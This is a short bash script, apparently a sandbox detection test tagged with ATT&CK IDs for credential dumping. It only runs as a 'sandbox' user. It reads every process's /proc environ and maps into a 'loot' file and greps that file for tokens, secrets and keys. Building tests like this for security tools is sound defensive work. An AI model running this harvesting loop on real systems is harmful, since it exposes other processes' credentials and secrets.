#!/bin/bash
# technique: T1003.007 T1552
# needs: bash
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

sleep 3 & sleep 3 & for p in /proc/[0-9]*; do cat $p/environ $p/maps; done > loot; grep -a -i -E 'token|secret|key' loot; kill %1 %2
